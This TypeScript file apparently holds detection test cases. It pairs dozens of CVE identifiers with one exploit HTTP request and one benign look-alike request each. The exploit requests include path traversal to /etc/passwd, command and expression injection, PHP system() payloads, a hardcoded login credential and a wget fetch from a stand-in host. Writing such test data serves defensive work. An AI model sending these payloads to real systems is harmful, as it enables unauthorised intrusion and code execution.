import type { Cases } from './cases.ts';

export const otherApplications: Cases = {
  'CVE-2024-27348': [
    'POST /gremlin\n\n{"gremlin":"Thread thread = Thread.currentThread();Class clz = Class.forName(\\"java.lang.Thread\\");","bindings":{}}',
    'POST /gremlin\n\n{"gremlin":"g.V().limit(3)"}',
  ],
  'CVE-2023-49103': [
    'GET /apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css',
    'GET /apps/graphapi/js/app.css',
  ],
  'CVE-2023-41265': [
    'GET /resources/qmc/fonts/../../../qrs/ReloadTask/full?xrfkey=1333333333333337',
    'GET /resources/qmc/fonts/a.ttf',
  ],
  'CVE-2024-11680': [
    'POST /options.php\n\nsection=general&this_install_title=a',
    'POST /options.php\n\ntheme=dark',
  ],
  'CVE-2024-8956': [
    'GET /cgi-bin/param.cgi?post_network_other_conf&ntp_addr=a',
    'GET /cgi-bin/param.cgi?action=list',
  ],
  'CVE-2024-4879': [
    'GET /login.do?jvar_page_title=%3Cstyle%3E%3Cj:jelly%20xmlns:j=%22jelly%22%20xmlns:g=%27glide%27%3E',
    'GET /login.do?jvar_page_title=Hello',
  ],
  'CVE-2024-36991': [
    'GET /en-US/modules/messaging/C:../C:../C:../C:../C:../etc/passwd',
    'GET /en-US/modules/messaging/index.js',
  ],
  'CVE-2024-20767': [
    'GET /pms?module=logging&file_name=../../../../../../../etc/passwd&number_of_lines=10',
    'GET /pms?module=stats',
  ],
  'CVE-2024-29973': [
    'POST /cmd,/simZysh/register_main/setCookie?c0=storage_ext_cgi+CGIGetExtStoInfo+None)+and+False+or+__import__("os")',
    'GET /register_main/cookie',
  ],
  'CVE-2024-41713': ['GET /npm-pwg/..;/ReconcileWizard/reconcilewizard/sc/IDACall', 'GET /npm-pwg/login'],
  'CVE-2024-48248': [
    'POST /c/router\n\n{"action":"STPreLoadManagement","method":"getImageByPath","data":["/etc/passwd"]}',
    'POST /c/router\n\n{"action":"Auth","method":"login"}',
  ],
  'CVE-2025-24016': [
    'POST /security/user/authenticate/run_as\n\n{"__unhandled_exc__":{"__class__":"exit","__args__":[]}}',
    'POST /security/user/authenticate\n\n{"user":"mara"}',
  ],
  'CVE-2025-4632': [
    'POST /MagicInfo/servlet/SWUpdateFileUploader?fileName=../../../a.jsp\n\nx',
    'GET /MagicInfo/login',
  ],
  'CVE-2025-4008': [
    'GET /public/template.cgi?templatefile=$(id)',
    'GET /public/template.cgi?templatefile=day.html',
  ],
  'CVE-2025-1316': [
    'POST /camera-cgi/admin/param.cgi\n\naction=update&NTP_serverName=;id;',
    'GET /camera-cgi/admin/param.cgi',
  ],
  'CVE-2023-33538': [
    'GET /userRpm/WlanNetworkRpm?ssid1=%60id%60&ssid2=a',
    'GET /userRpm/WlanNetworkRpm?ssid1=home',
  ],
  'CVE-2023-50224': ['GET /userRpm/../../tmp/dropbear/dropbearpwd', 'GET /dropbear/manual'],
  'CVE-2019-16097': [
    'POST /api/users\n\n{"username":"a","email":"a@a.example","password":"Aa1","has_admin_role":true}',
    'POST /api/users\n\n{"username":"a","has_admin_role":false}',
  ],
  'CVE-2020-15505': ['POST /mifs/.;/services/LogService\n\nc\x02\x00H\x00', 'GET /mifs/user/services'],
  'CVE-2021-27561': [
    'GET /premise/front/getPingData?url=http://0.0.0.0:9600/sm/api/v1/firewall/zone/services?zone=;id;',
    'GET /front/getPingData',
  ],
  'CVE-2021-36380': [
    'POST /cgi/networkDiag.cgi\n\ncommand=2&ipAddr=&dnsAddr=$(id)',
    'GET /cgi/networkDiag.cgi',
  ],
  'CVE-2022-26138': [
    'POST /dologin.action\n\nos_username=disabledsystemuser&os_password=disabled1system1user6708',
    'POST /dologin.action\n\nos_username=mara',
  ],
  'CVE-2022-29303': [
    'POST /conf_mail.php\n\nmail_address=%3Bid%3B&button=',
    'POST /conf_mail.php\n\nmail_address=mara@a.example',
  ],
  'CVE-2023-23333': [
    'GET /downloader.php?file=;echo%20aWQ=|base64%20-d|sh;%00.zip',
    'GET /downloader.php?file=a.zip',
  ],
  'CVE-2022-29499': ['GET /scripts/vtest.php?get_url=http://198.51.100.7', 'GET /scripts/test.php?url=a'],
  'CVE-2022-36537': [
    'POST /zkau/upload?uuid=101010&dtid=a&sid=0&maxsize=-1\n\n--a\nContent-Disposition: form-data; name="nextURI"\n\n/WEB-INF/web.xml\n--a--',
    'POST /zkau\n\ndtid=a',
  ],
  'CVE-2022-43939': [
    'GET /pentaho/api/ldap/config/ldapTreeNodeChildren/require.js?url=%23{T(java.lang.Runtime).getRuntime().exec(%22id%22)}&mgrDn=a&pwd=a',
    'GET /pentaho/api/version',
  ],
  'CVE-2023-34960': [
    'POST /main/webservices/additional_webservices.php\n\n<SOAP-ENV:Envelope><ns1:wsConvertPpt><param0><item><key>file_name</key><value>`{}`.pptx\'|" |id||a #</value></item></param0></ns1:wsConvertPpt></SOAP-ENV:Envelope>',
    'GET /main/webservices/registration.php',
  ],
  'CVE-2023-47565': [
    'POST /cgi-bin/server/server.cgi?func=server02_main_submit\n\nSPECIFIC_SERVER=`id`',
    'GET /cgi-bin/server/server.cgi',
  ],
  'CVE-2023-20073': ['POST /api/operations/ciscosb-file:form-file-upload\n\nx', 'GET /api/operations/files'],
  'CVE-2017-12637': [
    'GET /scheduler/ui/js/ffffffffbca41eb4/UIUtilJavaScriptJS?/..%5C..%5C..%5C',
    'GET /scheduler/ui/js/app.js',
  ],
  'CVE-2016-10372': [
    'POST /UD/act?1\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\n\n<NewNTPServer1>`cd /tmp;wget http://198.51.100.7/a`</NewNTPServer1>',
    'GET /ud/action',
  ],
  'CVE-2014-2321': ['GET /web_shell_cmd.gch', 'GET /web/shell_cmd.html'],
  'CVE-2010-1871': [
    'GET /seam-booking/home.seam?actionOutcome=/pwn.xhtml?pwned%3d%23{expressions.getClass()}',
    'GET /home.seam?actionOutcome=/main.xhtml',
  ],
  'CVE-2017-1000486': [
    'POST /javax.faces.resource/dynamiccontent.properties.xhtml\n\npfdrt=sc&ln=primefaces&pfdrid=uMKljPgnOTVxmOB',
    'GET /javax.faces.resource/theme.css.xhtml',
  ],
  'CVE-2018-1273': [
    'POST /users\n\nusername[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("id")]=a',
    'POST /users\n\nusername[0]=a',
  ],
  'CVE-2019-1003000': [
    'GET /descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=@GrabConfig',
    'GET /descriptorByName/hudson.tasks.Shell/help',
  ],
  'CVE-2019-16278': ['POST /.%0d./.%0d./.%0d./.%0d./bin/sh\n\necho', 'POST /bin/sh.html\n\na'],
  'CVE-2022-48482': [
    'GET /Electron/download/windows/..\\..\\..\\Windows\\win.ini',
    'GET /Electron/download/windows/a.exe',
  ],
  'CVE-2018-7602': [
    'POST /?q=node/1/delete&destination=node?q[%2523post_render][]=passthru%26q[%2523type]=markup%26q[%2523markup]=id\n\nform_id=node_delete_confirm',
    'POST /?q=node/1/delete&destination=node\n\nform_id=a',
  ],
  'CVE-2023-27372': [
    'POST /spip.php?page=spip_pass\n\npage=spip_pass&formulaire_action=oubli&oubli=s:19:"<?php phpinfo(); ?>";',
    'GET /spip.php?page=spip_pass',
  ],
  'CVE-2024-8517': [
    'POST /spip.php?page=spip_pass\n\n--a\nContent-Disposition: form-data; name="RCE[\'.system(\'id\').die().\']"; filename="a"\n\nx\n--a\nContent-Disposition: form-data; name="bigup_retrouver_fichiers"\n\na\n--a--',
    'POST /spip.php\n\nbigup_retrouver_fichiers=1',
  ],
  'CVE-2024-7954': [
    'POST /index.php?action=porte_plume_previsu\n\ndata=AA_[<img111111>->URL`<?php system("id"); ?>`]_BB',
    'POST /index.php?action=porte_plume_previsu\n\ndata=Hello',
  ],
};
